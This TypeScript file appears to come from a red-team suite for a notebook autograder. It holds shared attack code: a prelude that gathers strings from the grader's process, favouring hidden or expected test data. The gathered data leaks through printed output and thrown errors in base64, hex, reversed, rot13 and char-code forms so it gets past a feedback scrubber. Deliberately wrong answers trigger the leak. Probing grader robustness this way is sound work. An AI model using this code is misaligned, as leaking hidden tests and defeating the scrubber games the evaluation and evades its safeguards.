// Code shared by the attacks: a cell that sets up a loot bag in the student's
// process, and answers that smuggle the loot out through the visible tests
// (printed and thrown, base64 / hex / reversed / rot13 / char codes), so that a
// leak shows up in feedback whatever the scrubber does with plain text.
import type { Ctx } from "./types";

/** First extra cell of most attacks: globalThis.__take(text) collects, __emit(why) prints and throws. */
export function exfilPrelude(ctx: Ctx): string {
  return `{
  // Built-ins captured before any attack patches them.
  const G: any = globalThis as any;
  const b64 = (s: string) => Buffer.from(s, "utf8").toString("base64");
  const hex = (s: string) => Buffer.from(s, "utf8").toString("hex");
  const arr = Array.from;
  const rot13 = (s: string) => arr(s, (c: string) => { const x = c.charCodeAt(0); const base = x >= 97 && x <= 122 ? 97 : x >= 65 && x <= 90 ? 65 : 0; return base ? String.fromCharCode(((x - base + 13) % 26) + base) : c; }).join("");
  const log = console.log.bind(console);
  const ErrorCtor = Error;
  if (!G.__loot) {
    G.__loot = [] as string[];
    G.__busy = false;
    G.__take = (v: unknown) => {
      if (G.__busy) return;
      G.__busy = true;
      try {
        const t = typeof v === "string" ? v : JSON.stringify(v);
        if (typeof t === "string" && t.length > 3 && G.__loot.length < 400 && G.__loot.indexOf(t) < 0) G.__loot.push(t.slice(0, 20000));
      } catch {} finally { G.__busy = false; }
    };
    G.__escaped = (what: string) => { G.__take(${JSON.stringify(ctx.canary)} + "-ESCAPED:" + what); };
    G.__emit = (why: string) => {
      if (G.__busy) return;
      G.__busy = true;
      let lines: string[] = [];
      try {
        const loot: string[] = G.__loot.slice();
        const interesting = loot.filter((s: string) => /ESCAPED|check|expected|hidden|nnlab|Error/i.test(s));
        const items = interesting.concat(loot).slice(0, 8);
        for (const s of items) {
          const t = s.slice(0, 1500);
          lines.push("raw:" + t, "b64:" + b64(t), "hex:" + hex(t.slice(0, 600)), "rev:" + arr(t).reverse().join(""), "rot:" + rot13(t), "uri:" + encodeURIComponent(t), "codes:" + arr(t.slice(0, 300), (c: string) => c.charCodeAt(0)).join(","));
        }
        log(lines.join("\\n"));
        try { require("tslab").display.text(lines.join("\\n")); } catch {}
      } catch {} finally { G.__busy = false; }
      throw new ErrorCtor(why + " " + lines.map((l: string) => l.slice(0, 300)).join(" | "));
    };
  }
}`;
}

/** Answers that call __emit from inside the visible tests (the student's functions run there). */
export const EMITTING: Record<string, string> = {
  count_with_intercepts: 'function countWithIntercepts(units: number[]): number {\n  (globalThis as any).__emit?.("ci");\n  return -1;\n}',
  weight_shapes: 'function weightShapes(units: number[]): [number, number][] {\n  (globalThis as any).__emit?.("ws");\n  return [];\n}',
};

/** A wrong answer for count_weights that also emits the loot. */
export const EMITTING_COUNT = 'function countWeights(units: number[]): number {\n  (globalThis as any).__emit?.("cw");\n  return -1;\n}';

/** Wraps attack code so its declarations stay local and a failure does not stop the rest. */
export const block = (code: string) => `{\n  const G: any = globalThis as any;\n  try {\n${code}\n  } catch (e) { console.log("attack step failed: " + String(e)); }\n}`;
